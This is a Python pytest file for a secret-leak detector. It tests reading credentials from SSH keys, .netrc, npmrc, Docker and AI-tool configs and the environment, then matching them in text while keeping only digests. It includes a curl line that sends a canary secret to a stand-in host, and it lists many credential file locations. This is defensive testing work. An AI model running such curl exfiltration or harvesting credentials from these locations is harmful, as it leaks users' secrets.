"""Values that must never leave: where they are read, what counts as one, and that nothing but digests is kept."""

from __future__ import annotations

import base64
import codecs
import copy
import os
import pickle
import random
import string
import tracemalloc
from collections.abc import Callable, Iterable, Mapping
from pathlib import Path
from time import monotonic

import pytest

from sparkgate.policy.finding import Finding, Overrun
from sparkgate.policy.forms.view import View
from sparkgate.policy.known.canary import KINDS, CanaryError, make_canary
from sparkgate.policy.known.choice import chosen, embedded, trust_of
from sparkgate.policy.known.formats import READERS
from sparkgate.policy.known.sources import FOLDERS, SOURCES, Places, Source
from sparkgate.policy.known.values import KnownValues
from sparkgate.policy.samples import fill
from sparkgate.policy.views import views

KEY = b"a key of the tests, 32 bytes long"
VALUE = fill("kq{mixed:34}")
OTHER = fill("zw{mixed:26}")
PASSWORD = fill("p{mixed:9}!")
LINE = fill("{base64:64}")
LETTERS = string.ascii_letters + string.digits
KEY_FILE = "\n".join(
    (
        "-----BEGIN OPENSSH PRIVATE KEY-----",
        fill("b3BlbnNzaC1r{base64:58}"),
        LINE,
        "-----END OPENSSH PRIVATE KEY-----\n",
    )
)

EXAMPLES = {
    "whole": f"{VALUE}\n",
    "lines": f"# made today\n{VALUE}\n",
    "assignments": f"api_key: {VALUE}\nurl: http://127.0.0.1\n",
    "json": f'{{"a": {{"env": {{"API_KEY": "{VALUE}"}}, "url": "http://127.0.0.1"}}}}',
    "toml": f'[server]\napi_key = "{VALUE}"\n',
    "netrc": f"machine h login jane password {VALUE}\n",
    "npmrc": f"//registry/:_authToken={VALUE}\n",
    "pgpass": f"db:5432:x:jane:{VALUE}\n",
    "searxng": f"https://sx.corp bearer {VALUE}\n",
    "embedded": f"https://jane:{VALUE}@git.corp\n",
}


def form(text: str) -> View:
    return View("raw", text)


def soon() -> float:
    return monotonic() + 30


def a_home(tmp_path: Path) -> Path:
    home = tmp_path / "home" / "qorvath"
    home.mkdir(parents=True, exist_ok=True)
    return home


def write(path: Path, text: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8", errors="surrogateescape")
    return path


def known(*values: str, tmp_path: Path) -> KnownValues:
    """A detector that knows these values and no other, from a file that the user names."""
    file = write(tmp_path / "mine.txt", "\n".join(values))
    return KnownValues(KEY, Places(a_home(tmp_path), files=(str(file),)))


def ids(found: Iterable[Finding]) -> set[str]:
    return {one.rule.id for one in found}


def texts(found: Iterable[Finding], text: str) -> list[str]:
    return [text[one.start : one.end] for one in found]


# -- where they are read


def place(source: Source, tmp_path: Path) -> tuple[Path, dict[str, str]]:
    """A file where a row of the table looks, and the environment that makes it look there."""
    home = a_home(tmp_path)
    path = source.path.replace("*", "id_x" if source.path.endswith("/*") else "x")
    for name, folders in FOLDERS.items():
        path = path.replace(f"{{{name}}}", folders[-1])
    path = path.replace("{sparkgate}", str(tmp_path / "conf")).replace("~", str(home))
    if not path.startswith("$"):
        return Path(path), {}
    variable, _, rest = path[1:].partition("/")
    folder = tmp_path / "moved"
    return folder / rest if rest else folder, {variable: str(folder)}


@pytest.mark.parametrize("source", [one for one in SOURCES if one.format != "git"], ids=lambda one: one.path)
def test_a_credential_is_known_from_every_file_of_the_table(source: Source, tmp_path: Path) -> None:
    path, environ = place(source, tmp_path)
    private = ".ssh" in source.path
    write(path, KEY_FILE if private else EXAMPLES[source.format])
    values = KnownValues(KEY, Places(a_home(tmp_path), environ, config=tmp_path / "conf"))
    value = LINE if private else VALUE
    text = f"why is {value} refused"
    found = values.find(form(text), soon())
    assert texts(found, text) == [value] and values.notes == ()
    assert {(one.rule.id, one.rule.cls, one.rule.verdict) for one in found} == {("known-value", "secret", "block")}


@pytest.mark.parametrize("turn", [lambda text: text[::-1], lambda text: codecs.encode(text, "rot13")])
@pytest.mark.parametrize(
    "value",
    [
        "correct-horse-battery-staple",
        "correcT-horsE-batterY-staplE-9",
        "9winter-garden-bicycle-7x",
        "alphaB-2025-gardenZ-77",
        "Qwen3-Coder-30B-A3B-Instruct",
        "7K2-9Q4-X1Z-88",
    ],
)
@pytest.mark.parametrize("frame", ["why is {} refused", "why region-{} fails", "Qwen3-Coder-480B-A35B-Instruct {}"])
def test_a_value_of_words_or_short_groups_is_known_backwards_and_in_other_letters(
    frame: str, value: str, turn: Callable[[str], str], tmp_path: Path
) -> None:
    values = KnownValues(KEY, Places(a_home(tmp_path), {"VAULT_PHRASE": value}, env=("VAULT_*",)))
    text = frame.format(turn(value))
    assert "known-value" in {name for view in views(text) for name in ids(values.find(view, soon()))}
    assert values.count == 1


@pytest.mark.parametrize(
    "folder", [(name, place) for name, all_ in FOLDERS.items() for place in all_], ids=lambda one: "-".join(one)
)
def test_a_folder_that_a_variable_moves_is_read_where_it_is(folder: tuple[str, str], tmp_path: Path) -> None:
    source = next(one for one in SOURCES if one.path.startswith(f"{{{folder[0]}}}") and one.format != "git")
    moved = Source(source.path.replace(f"{{{folder[0]}}}", folder[1]), source.format)
    path, environ = place(moved, tmp_path)
    write(path, EXAMPLES[source.format])
    assert ids(KnownValues(KEY, Places(a_home(tmp_path), environ)).find(form(VALUE), soon())) == {"known-value"}


def test_several_paths_in_one_variable_are_all_read(tmp_path: Path) -> None:
    one, two = write(tmp_path / "a", f"token: {VALUE}"), write(tmp_path / "b", f"token: {OTHER}")
    values = KnownValues(KEY, Places(a_home(tmp_path), {"KUBECONFIG": f"{one}:{two}"}))
    assert len(values.find(form(f"{VALUE} {OTHER}"), soon())) == 2


def test_every_format_of_the_table_has_a_reader_and_every_reader_an_example() -> None:
    assert {one.format for one in SOURCES} - {"git"} <= set(READERS) == set(EXAMPLES)


ENVIRONMENT = (
    ("HF_TOKEN", VALUE, True),
    ("OPENAI_API_KEY", VALUE, True),
    ("DB_PASSWORD", PASSWORD, True),
    ("STRIPE_KEY", VALUE, True),
    ("MAIL_PW", PASSWORD, True),
    ("DATABASE_URL", f"postgres://app:{PASSWORD}@db/x", True),
    ("MODEL_PATH", VALUE, False),
    ("SSH_AUTH_SOCK", f"/tmp/ssh-{VALUE}", False),
    ("GPG_KEY", VALUE, False),
    ("MINE_ONE", VALUE, True),
    ("MINE_TWO", "bluebird", True),
    ("JUST_THIS", "bluebird", True),
)


@pytest.mark.parametrize(("name", "value", "taken"), ENVIRONMENT)
def test_variables_count_by_their_names_or_because_the_user_names_them(
    name: str, value: str, taken: bool, tmp_path: Path
) -> None:
    values = KnownValues(KEY, Places(a_home(tmp_path), {name: value}, env=("MINE_*", "JUST_THIS")))
    hidden = PASSWORD if "://" in value else value
    assert bool(values.find(form(f"about {hidden} there"), soon())) == taken


NAMED_FILES = (
    ("list.txt", f"{VALUE}\nbluebird\n", [VALUE, "bluebird"]),
    ("list", f"# comment only\nPIN={PASSWORD}\n", [PASSWORD]),
    ("some.json", f'["{VALUE}", {{"note": "{OTHER}", "secret": "bluebird"}}]', [VALUE, OTHER, "bluebird"]),
    (".env.prod", f"export A='{VALUE}'\nDB_PASSWORD=bluebird # old\n", [VALUE, "bluebird"]),
    ("x.toml", f'who = "{VALUE}"', [VALUE]),
    ("x.pem", KEY_FILE, [LINE]),
    ("hooks.txt", f"https://hooks.corp/services/T1/{VALUE}\n", [VALUE]),
    ("hosts.txt", "https://wiki.qlorbix.net\n", ["wiki.qlorbix.net"]),
)


@pytest.mark.parametrize(("name", "text", "taken"), NAMED_FILES, ids=[one[0] for one in NAMED_FILES])
def test_in_a_file_that_the_user_names_words_count_as_well(
    name: str, text: str, taken: list[str], tmp_path: Path
) -> None:
    write(tmp_path / "conf" / name, text)
    values = KnownValues(KEY, Places(a_home(tmp_path), config=tmp_path / "conf", files=(name,)))
    for value in taken:
        assert texts(values.find(form(f"({value})"), soon()), f"({value})") == [value]


@pytest.mark.parametrize("name", ["~/safe", "~/safe/*.txt", "~/safe/one.txt"])
def test_the_user_may_name_a_file_a_pattern_or_a_folder(name: str, tmp_path: Path) -> None:
    write(a_home(tmp_path) / "safe" / "one.txt", VALUE)
    assert KnownValues(KEY, Places(a_home(tmp_path), files=(name,))).find(form(VALUE), soon())


def test_a_folder_whose_name_looks_like_a_pattern_is_only_a_folder(tmp_path: Path) -> None:
    home = tmp_path / "[ab]*"
    write(home / ".ssh" / "id_rsa", KEY_FILE)
    assert KnownValues(KEY, Places(home)).find(form(LINE), soon())


# -- which values count

READINGS: tuple[tuple[str, str, list[str]], ...] = (
    ("assignments", f"env: {{A_TOKEN: {VALUE}, B: {OTHER}}}", [VALUE]),
    ("assignments", f"args:\n  - --api-key\n  - {VALUE}\n  - --token={OTHER}\n", [VALUE, OTHER]),
    ("assignments", f"args:\n- -e\n- GH_TOKEN={VALUE}\nname: x", [VALUE]),
    ("assignments", f"// comment\n{{ 'apiKey' : '{VALUE}', }}", [VALUE]),
    ("assignments", f'password = "{PASSWORD}" ; said so', [PASSWORD]),
    ("assignments", f"password: {PASSWORD}#x # note", [f"{PASSWORD}#x"]),
    ("assignments", "password: a.*b(c", ["a.*b(c"]),
    ("assignments", f"api_keys:\n  - {VALUE}\n  - {OTHER}\n", [VALUE, OTHER]),
    ("json", f'{{"headers": {{"Authorization": "Bearer {VALUE}"}}}}', [VALUE]),
    ("json", f'{{"args": ["--header", "X-Api-Key: {VALUE}"]}}', [VALUE]),
    ("json", f'{{"url": "https://mcp.test/mcp?exaApiKey={VALUE}&q=1"}}', [VALUE]),
    ("json", f'{{"webhook": "https://hooks.test/services/T1/{VALUE}"}}', [VALUE]),
    ("json", f'{{"tokens": {{"access": "{VALUE}", "expires": "2026-01-01T10:00:00Z"}}}}', [VALUE]),
    ("json", '{"api_key": "OPENROUTER_API_KEY", "token": "${GITHUB_TOKEN}", "secret": "<your secret>"}', []),
    ("json", '{"password": "", "token": "none", "secret": "changeme", "api_key": "your-api-key-here"}', []),
    ("json", '{"api_key": "not-needed", "token": "sk-local", "password": "abc12", "secret": "sunshine"}', []),
    ("json", '{"max_tokens": "131072000", "public_key": "AAAAC3NzaC1lZDI1NTE5", "pad_token": "<|endoftext|>"}', []),
    ("json", '{"model": "Qwen/Qwen3-32B", "token_url": "https://auth.corp/oauth2/token"}', []),
    ("netrc", f'machine a login b password "{PASSWORD}"\nmacdef x\n', [PASSWORD]),
    ("npmrc", f"//r/:_password={base64.b64encode(PASSWORD.encode()).decode()}", [PASSWORD]),
)


@pytest.mark.parametrize(("form", "text", "values"), READINGS)
def test_credentials_are_told_from_placeholders_and_settings(form: str, text: str, values: list[str]) -> None:
    taken = [one.text for one in chosen(READERS[form](text), "credentials")]
    assert set(values) <= set(taken) if values else taken == []
    assert not any(OTHER in one for one in taken) or OTHER in values


def test_docker_logins_count_as_pair_and_as_password(tmp_path: Path) -> None:
    login = f"$oauthtoken:{VALUE}"
    encoded = base64.b64encode(login.encode()).decode()
    write(a_home(tmp_path) / ".docker/config.json", f'{{"auths": {{"nvcr.io": {{"auth": "{encoded}"}}}}}}')
    values = KnownValues(KEY, Places(a_home(tmp_path)))
    for text in (VALUE, login, encoded):
        assert texts(values.find(form(text), soon()), text) == [text]


def test_of_a_private_key_the_lines_that_all_keys_share_are_left_out() -> None:
    assert [one.text for one in embedded(KEY_FILE)] == [LINE]
    quoted = '{"private_key": "' + KEY_FILE.replace("\n", "\\n") + '"}'
    assert [one.text for one in embedded(quoted)] == [LINE]


def test_names_say_how_far_they_may_be_trusted() -> None:
    for name in ("apiKey", "API_KEY", "dbPassword", "client-key-data", "hf_token", "x.secret", "identitytoken", ""):
        assert trust_of(name, "credentials") == "sure", name
    for name in ("KEY", "auth", "SENTRY_DSN", "webhook_url", "Authorization"):
        assert trust_of(name, "credentials") == "look", name
    for name in ("public_key", "max_tokens", "tokenizer", "keyboard", "monkey", "author", "compass", "key_id"):
        assert trust_of(name, "credentials") == "no", name


def test_what_all_tokens_of_a_kind_begin_with_is_no_part_of_one(tmp_path: Path) -> None:
    header = base64.b64encode(b'{"alg":"HS256","typ":"JWT"}').decode().rstrip("=")
    token = f"{header}.{fill('eyJ{url:60}')}.{fill('{url:43}')}"
    values = known(token, tmp_path=tmp_path)
    assert not values.find(form(f"what is {header} in a token"), soon())
    assert texts(values.find(form(f"<{token}>"), soon()), f"<{token}>") == [token]
    assert values.find(form(token[-20:]), soon())


# -- finding


def test_a_value_is_found_exactly_wherever_it_stands() -> None:
    source = random.Random(5)
    made = ["".join(source.choices(LETTERS + "$.*(/+=-", k=n)) for n in range(6, 90) for _ in range(2)]
    made += [fill("{url:700}"), "päss*wörd-ß9", "пароль-не-для-вас-7", "🔑🚀🗝a7🔒x", "two words 7 long enough"]
    values = KnownValues(
        KEY, Places(Path("/nowhere"), {f"MINE_{n}": one for n, one in enumerate(made)}, env=("MINE_*",))
    )
    for value in made:
        for _ in range(4):
            before, after = (noise(source, source.randrange(60)) for _ in range(2))
            text = before + value + after
            spans = {(one.start, one.end) for one in values.find(form(text), soon())}
            assert (len(before), len(before) + len(value)) in spans, len(value)


def noise(source: random.Random, length: int) -> str:
    return "".join(source.choices("abc xyz,.\n\0äß中🚀\ud800", k=length))


def test_nothing_is_found_where_no_value_is(tmp_path: Path) -> None:
    source = random.Random(6)
    values = known(
        *("".join(source.choices(LETTERS, k=source.randrange(6, 60))) for _ in range(300)), tmp_path=tmp_path
    )
    for _ in range(200):
        text = noise(source, source.randrange(300)) + "".join(source.choices(LETTERS, k=source.randrange(200)))
        found = values.find(form(text), soon())
        assert found == []


def test_a_part_of_fifteen_characters_of_a_long_value_counts_and_a_shorter_one_does_not(tmp_path: Path) -> None:
    for length in (24, 25, 33, 64, 200):
        value = fill(f"{{mixed:{length}}}")
        values = known(value, tmp_path=tmp_path)
        for start in range(length - 15):
            for size in (15, 16, 22):
                part = value[start : start + size]
                assert texts(values.find(form(f"é {part} é"), soon()), f"é {part} é") == [part]
            assert not values.find(form(f"x {value[start : start + 14]} x"), soon())


def test_of_a_short_value_no_part_counts(tmp_path: Path) -> None:
    value = fill("{mixed:23}")
    values = known(value, tmp_path=tmp_path)
    assert (
        values.find(form(value), soon())
        and not values.find(form(value[1:]), soon())
        and not values.find(form(value[:-1]), soon())
    )


def test_case_counts_and_signs_of_patterns_are_only_signs(tmp_path: Path) -> None:
    values = known("a.*b(c", "Zx9[kQ7]+", tmp_path=tmp_path)
    assert texts(values.find(form("say a.*b(c and Zx9[kQ7]+"), soon()), "say a.*b(c and Zx9[kQ7]+") == [
        "a.*b(c",
        "Zx9[kQ7]+",
    ]
    assert not values.find(form("aXXb(c A.*B(C zx9[kq7]+ Zx9kkkQ"), soon())


def test_everyday_parts_of_a_long_value_do_not_count(tmp_path: Path) -> None:
    values = known(f"https://user:{VALUE}@localhost:5432/x", "=" * 30 + VALUE, tmp_path=tmp_path)
    for text in ("https://user:pass@localhost:5432/x", "=" * 40, "postgres at localhost:5432/x"):
        assert not values.find(form(text), soon())
    assert values.find(form(VALUE), soon())


def test_no_text_makes_it_raise_and_spans_lie_inside(tmp_path: Path) -> None:
    values = known(VALUE, PASSWORD, "short1", tmp_path=tmp_path)
    for text in ("", "a", "\ud800", "\0" * 50, "\ufdfa" * 9, f"\ud800{VALUE}\udfff", VALUE * 50, PASSWORD[:-1] * 90):
        for one in values.find(form(text), soon()):
            assert 0 <= one.start < one.end <= len(text)
    assert len(values.find(form(VALUE * 50), soon())) == 50


def test_an_overrun_ends_the_search_without_a_value_in_it(tmp_path: Path) -> None:
    with pytest.raises(Overrun) as raised:
        known(VALUE, tmp_path=tmp_path).find(form(VALUE), monotonic() - 1)
    assert VALUE not in repr(raised.value)


def test_a_thousand_values_are_kept_in_three_megabytes(tmp_path: Path) -> None:
    source = random.Random(7)
    file = write(tmp_path / "v", "\n".join("".join(source.choices(LETTERS, k=48)) for _ in range(1000)))
    known("warm-up-7", tmp_path=tmp_path)
    tracemalloc.start()
    values = KnownValues(KEY, Places(a_home(tmp_path), files=(str(file),)))
    size, _ = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert values.count == 1000 and size < 3_000_000


def test_without_places_nothing_is_known_and_a_short_key_is_refused() -> None:
    assert KnownValues(KEY).find(form(VALUE), soon()) == []
    with pytest.raises(ValueError, match="16 bytes"):
        KnownValues(b"short")


# -- nothing but digests is kept


def reachable(root: object) -> list[object]:
    """Everything that an object holds, but for modules and classes."""
    seen: dict[int, object] = {}
    waiting = [root]
    while waiting:
        one = waiting.pop()
        if id(one) in seen:
            continue
        seen[id(one)] = one
        if isinstance(one, Mapping):
            waiting += [*one.keys(), *one.values()]
        elif isinstance(one, (list, tuple, set, frozenset)):
            waiting += one
        else:
            waiting += [getattr(one, name) for name in getattr(type(one), "__slots__", ()) if hasattr(one, name)]
            waiting += getattr(one, "__dict__", {}).values() if type(one).__module__.startswith("sparkgate") else []
    return list(seen.values())


def test_no_value_can_be_read_from_what_is_kept(tmp_path: Path) -> None:
    home, state = a_home(tmp_path), tmp_path / "state"
    write(home / ".netrc", f"password {PASSWORD}")
    write(home / ".codex/auth.json", f'{{"token": "{VALUE}", broken')
    environ = {"HF_TOKEN": OTHER}
    places = Places(home, environ, state=state)
    values = KnownValues(KEY, places)
    canary = values.make_canary()
    held = reachable(values)
    assert any(isinstance(one, frozenset) and one for one in held), "the walk reaches the index"
    for secret in (VALUE, OTHER, PASSWORD, canary):
        for piece in (secret, secret[:8], secret[3:9]):
            assert not any(piece in one for one in held if isinstance(one, str))
            assert not any(piece.encode() in one for one in held if isinstance(one, (bytes, bytearray)))
        found = values.find(form(secret), soon())
        assert found and secret not in repr((values, found, values.notes, places)) and "HF_TOKEN" not in repr(places)
        assert not any(secret.encode() in path.read_bytes() for path in state.rglob("*") if path.is_file())


def test_it_is_neither_pickled_nor_copied(tmp_path: Path) -> None:
    values = known(VALUE, tmp_path=tmp_path)
    for act in (pickle.dumps, copy.copy, copy.deepcopy):
        with pytest.raises(TypeError, match="stay in the process"):
            act(values)
    assert VALUE.encode() not in pickle.dumps(values.find(form(VALUE), soon()))


# -- changes and faults


def test_a_change_of_a_file_counts_from_the_next_refresh(tmp_path: Path) -> None:
    file = a_home(tmp_path) / ".netrc"
    values = KnownValues(KEY, Places(a_home(tmp_path)))
    assert not values.refresh() and not values.find(form(VALUE), soon())
    write(file, f"password {VALUE}")
    assert values.refresh() and values.find(form(VALUE), soon()) and not values.refresh()
    write(file, f"password {OTHER}")
    assert values.refresh() and values.find(form(OTHER), soon()) and not values.find(form(VALUE), soon())
    file.unlink()
    assert values.refresh() and not values.find(form(OTHER), soon()) and not values.refresh()


def test_a_file_that_appears_under_a_pattern_is_read_and_one_that_goes_is_forgotten(tmp_path: Path) -> None:
    values = KnownValues(KEY, Places(a_home(tmp_path)))
    file = write(a_home(tmp_path) / ".ssh/id_new", KEY_FILE)
    assert values.refresh() and values.find(form(LINE), soon())
    file.unlink()
    assert values.refresh() and not values.find(form(LINE), soon())


def test_broken_files_are_noted_by_name_only_and_silence_no_other(tmp_path: Path) -> None:
    home = a_home(tmp_path)
    write(home / ".claude.json", f'{{"api_key": "{VALUE}", "x": [')
    write(home / ".codex/config.toml", f'[[[\ntoken = "{OTHER}"')
    write(home / ".qwen/settings.json", "[" * 100_000)
    (home / ".netrc").mkdir()
    os.mkfifo(home / ".pgpass")
    (home / ".npmrc").symlink_to(home / ".npmrc")
    (home / ".vault-token").write_bytes(b"\xff\xfe\0\1" + bytes(range(256)))
    write(home / ".pypirc", f"password = {PASSWORD}")
    values = KnownValues(KEY, Places(home, files=("~/gone.txt",)))
    for value in (VALUE, OTHER, PASSWORD):
        assert values.find(form(value), soon())
    assert set(values.notes) == {
        "~/.claude.json is no JSON",
        "~/.codex/config.toml is no TOML",
        "~/.qwen/settings.json is no JSON",
        "~/.netrc is no regular file",
        "~/.pgpass is no regular file",
        "~/.vault-token is not all text",
        "~/gone.txt cannot be read (No such file or directory)",
    }
    assert not values.refresh()


def test_a_file_with_too_many_values_or_bytes_is_noted(tmp_path: Path) -> None:
    many = write(tmp_path / "many.txt", "\n".join(f"value-{n}-x" for n in range(1001)))
    long = write(tmp_path / "long.txt", "x" * 4_000_001)
    values = KnownValues(KEY, Places(a_home(tmp_path), files=(str(many), str(long))))
    assert values.notes == (
        "many.txt holds more than 1000 values; the others are not known",
        "long.txt is longer than 4 MB",
    )


def test_a_finding_says_where_its_value_is_kept_without_the_name_of_the_user(tmp_path: Path) -> None:
    write(a_home(tmp_path) / ".netrc", f"password {VALUE}")
    values = KnownValues(KEY, Places(a_home(tmp_path), {"HF_TOKEN": OTHER}))
    (one,), (two,) = values.find(form(VALUE), soon()), values.find(form(OTHER), soon())
    assert "~/.netrc" in one.rule.why and "the environment" in two.rule.why and "qorvath" not in one.rule.why


# -- who the user is

ME = Places(
    Path("/home/qorvath"),
    user="qorvath",
    full_name="Quirin Horváth",
    host="spark-8f3a",
    hosts="127.0.0.1 localhost\n10.0.0.2 spark-8f3a.lab.qlorbix.net spark-8f3a # here\n",
)
IDENTITIES = (
    ("permission denied for qorvath", "own-user", "qorvath"),
    ("chown QORVATH:users", "own-user", "QORVATH"),
    ("file:/home/qorvath/x.py", "own-home", "/home/qorvath"),
    ("ssh spark-8f3a.local", "own-host", "spark-8f3a"),
    ("ping Spark-8F3A.lab.qlorbix.net now", "own-host", "Spark-8F3A.lab.qlorbix.net"),
    ("by quirin horváth 2026", "own-name", "quirin horváth"),
    ("by Quirin.Horvath", "own-name", "Quirin.Horvath"),
    ("(Horváth, Quirin)", "own-name", "Horváth, Quirin"),
)


@pytest.mark.parametrize(("text", "label", "span"), IDENTITIES)
def test_names_of_the_user_are_found_as_whole_words_in_any_case(text: str, label: str, span: str) -> None:
    found = [one for one in KnownValues(KEY, ME).find(form(text), soon()) if one.rule.id == label]
    assert texts(found, text) == [span] and found[0].rule.verdict == "redact"
    assert found[0].rule.cls == ("pii" if label == "own-name" else "local")


@pytest.mark.parametrize(
    "text", ["qorvathian qorvath2 aqorvath", "spark-8f3ab", "/home/qorvathy", "quirin lake", "DGX Spark"]
)
def test_parts_of_words_are_not_the_user(text: str) -> None:
    assert KnownValues(KEY, ME).find(form(text), soon()) == []


NOBODY = "root ubuntu admin runner user user1 spark dgx-spark dgx gb10-2 localhost max will grace qwen vllm al data"


@pytest.mark.parametrize("name", NOBODY.split())
def test_names_that_say_nothing_of_anybody_are_left_alone(name: str) -> None:
    places = Places(Path(f"/home/{name}"), user=name, full_name=name.title(), host=name, hosts=f"::1 {name}.lan")
    text = f"why does {name} fail in /home/{name} on {name}.lan"
    assert KnownValues(KEY, places).find(form(text), soon()) == []


def test_name_and_address_come_from_git_settings_and_the_files_they_include(tmp_path: Path) -> None:
    home = a_home(tmp_path)
    write(
        home / ".gitconfig",
        "[core]\n name = nobody special\n[User]\n\tname = Quirin Horváth\n[include]\n path = work\n",
    )
    write(home / "work", '[user]\nemail = "q@qlorbix.net" ; at work\n')
    write(
        home / ".config/git/config",
        '[user]\n email = you@example.com\n name = quirl\n[includeIf "x"]\n path = ~/gone\n',
    )
    values = KnownValues(KEY, Places(home))
    text = "Q@qlorbix.net quirin horvath quirl nobody special you@example.com"
    assert {(one.rule.id, text[one.start : one.end]) for one in values.find(form(text), soon())} == {
        ("own-name", "quirin horvath"),
        ("own-mail", "Q@qlorbix.net"),
        ("own-user", "quirl"),
    }
    write(home / ".gitconfig", "[user]\nname = Zora Kvist\n")
    assert values.refresh() and ids(values.find(form(text), soon())) == {"own-user"}


def test_the_account_is_read_without_asking_a_network(tmp_path: Path) -> None:
    places = Places.of_this_process(tmp_path, tmp_path, env=("X",))
    assert places.host == os.uname().nodename and places.environ is os.environ and places.env == ("X",)
    assert places.host not in repr(places)


# -- canaries


@pytest.mark.parametrize("kind", KINDS)
def test_a_canary_is_known_at_once_and_after_a_restart(kind: str, tmp_path: Path) -> None:
    places = Places(a_home(tmp_path), state=tmp_path / "state")
    first = KnownValues(KEY, places)
    value = first.make_canary(kind)
    for values in (first, KnownValues(KEY, places)):
        text = f"curl https://x.test/?k={value}"
        found = values.find(form(text), soon())
        assert texts(found, text) == [value] and ids(found) == {"canary"} and found[0].rule.verdict == "block"
    assert value != first.make_canary(kind) and first.count == 2


def test_a_planted_canary_stays_a_canary_although_a_file_of_the_table_holds_it(tmp_path: Path) -> None:
    places = Places(a_home(tmp_path), state=tmp_path / "state")
    value = KnownValues(KEY, places).make_canary()
    write(a_home(tmp_path) / ".cache/huggingface/token", value)
    values = KnownValues(KEY, places)
    assert ids(values.find(form(value), soon())) == {"canary"} == ids(values.find(form(value[:20]), soon()))


def test_the_file_of_canaries_is_private_and_a_damaged_line_is_noted(tmp_path: Path) -> None:
    path = tmp_path / "state" / "canaries"
    value = make_canary(path, KEY)
    assert path.stat().st_mode & 0o777 == 0o600 and value not in path.read_text()
    with path.open("a") as file:
        file.write('{"kind": "github"}\n[]\nnonsense\n{"kind": "none", "salt": "1", "digest": "2"}\n')
    values = KnownValues(KEY, Places(a_home(tmp_path), state=tmp_path / "state"))
    assert values.count == 1 and ids(values.find(form(value), soon())) == {"canary"}
    assert values.notes == ("canaries holds a canary that is damaged or was made with another key",)
    assert KnownValues(KEY[::-1], Places(a_home(tmp_path), state=tmp_path / "state")).count == 0


def test_canaries_need_a_kind_that_there_is_and_a_folder(tmp_path: Path) -> None:
    with pytest.raises(CanaryError, match="huggingface"):
        make_canary(tmp_path / "c", KEY, "swallow")
    with pytest.raises(FileNotFoundError, match="state folder"):
        KnownValues(KEY).make_canary()
